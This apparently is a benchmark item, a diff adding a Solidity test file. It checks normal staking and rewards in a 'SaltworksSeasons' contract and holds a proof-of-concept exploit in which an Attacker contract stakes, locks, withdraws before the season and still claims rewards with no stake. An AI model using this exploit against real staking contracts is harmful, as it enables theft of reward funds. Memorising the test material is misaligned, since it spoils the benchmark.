@@ -1,0 +1,168 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.24;
+
+import "./SaltworksSeasons.sol";
+
+// assay-canary-16d84a56-9d4e-437f-b5a4-3fa4365ff3ba
+
+interface Vm {
+    function warp(uint256 time) external;
+}
+
+contract Token {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        return true;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+}
+
+contract Raker {
+    Token internal salt;
+    SaltworksSeasons internal works;
+
+    constructor(Token salt_, SaltworksSeasons works_) {
+        salt = salt_;
+        works = works_;
+    }
+
+    function stake(uint256 amount) public {
+        salt.approve(address(works), amount);
+        works.stake(amount);
+    }
+
+    function lock(uint256 time) public {
+        works.extendLock(block.timestamp + time);
+    }
+
+    function unstake(uint256 amount) public {
+        works.unstake(amount, address(this));
+    }
+
+    function claim() public {
+        works.claim(address(this));
+    }
+}
+
+contract Attacker is Raker {
+    constructor(Token salt_, SaltworksSeasons works_) Raker(salt_, works_) {}
+
+    function enter() external {
+        stake(salt.balanceOf(address(this)));
+        lock(works.MAX_LOCK());
+    }
+
+    function leave() external {
+        (uint256 held, , , , ) = works.members(address(this));
+        unstake(held);
+    }
+}
+
+contract Proof {
+    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
+
+    Token public salt;
+    Token public token;
+    SaltworksSeasons private works;
+    Raker private rosa;
+    Raker private rolf;
+    Attacker private mallory;
+    uint256 private begin;
+
+    // A season of ten weeks is planned seventeen weeks ahead.
+    function setUp() public {
+        salt = new Token();
+        token = new Token();
+        works = new SaltworksSeasons(IToken(address(salt)), IToken(address(token)));
+        rosa = new Raker(salt, works);
+        rolf = new Raker(salt, works);
+        mallory = new Attacker(salt, works);
+        salt.mint(address(rosa), 100e18);
+        salt.mint(address(rolf), 100e18);
+        salt.mint(address(mallory), 100e18);
+        rosa.stake(100e18);
+
+        begin = block.timestamp + 17 weeks;
+        token.mint(address(this), 12096e18);
+        token.approve(address(works), 12096e18);
+        works.planSeason(6048e18, begin, 10 weeks);
+    }
+
+    function test_Regular() public {
+        uint256 perWeek = 604.8e18;
+        vm.warp(begin - 8 weeks);
+        rolf.stake(50e18);
+        rolf.lock(16 weeks);
+        require(works.totalWeight() == 300e18 && works.totalStake() == 150e18, "four times fifty");
+        (bool early, ) = address(rolf).call(abi.encodeCall(Raker.unstake, (1)));
+        require(!early, "unstaked while locked");
+        require(works.pendingOf(address(rolf)) == 0, "rewards before the season");
+
+        vm.warp(begin + 3 weeks);
+        require(_near(works.pendingOf(address(rolf)), perWeek * 2), "two thirds of three weeks");
+        rosa.claim();
+        require(_near(token.balanceOf(address(rosa)), perWeek), "one third of three weeks");
+
+        // matured a week ago: the weight stays with a stake that stays
+        vm.warp(begin + 9 weeks);
+        require(_near(works.pendingOf(address(rolf)), perWeek * 6), "two thirds of nine weeks");
+        rolf.unstake(50e18);
+        rolf.claim();
+        require(salt.balanceOf(address(rolf)) == 100e18, "stake returned");
+        require(_near(token.balanceOf(address(rolf)), perWeek * 6), "rewards paid");
+        require(works.totalStake() == 100e18, "rosa is left");
+
+        // a stake that was never locked comes and goes with its weight
+        rosa.unstake(40e18);
+        (uint256 held, uint256 weight, , , ) = works.members(address(rosa));
+        require(held == 60e18 && weight == 60e18, "weight follows an unlocked stake");
+        vm.warp(begin + 10 weeks);
+        works.planSeason(6048e18, block.timestamp, 10 weeks);
+        require(works.rate() == 1e15, "next season");
+    }
+
+    function _near(uint256 a, uint256 b) private pure returns (bool) {
+        return a <= b && b - a < 1e6;
+    }
+
+    function exploit() public {
+        mallory.enter();
+        vm.warp(begin - 1 weeks);
+        mallory.leave();
+        vm.warp(begin + 10 weeks);
+        mallory.claim();
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(salt.balanceOf(address(mallory)) == 100e18, "the whole stake was back before the season");
+        require(token.balanceOf(address(mallory)) >= 4000e18, "no rewards without a stake");
+    }
+
+    function target() public view returns (address) {
+        return address(works);
+    }
+
+    function attacker() public view returns (address) {
+        return address(mallory);
+    }
+}
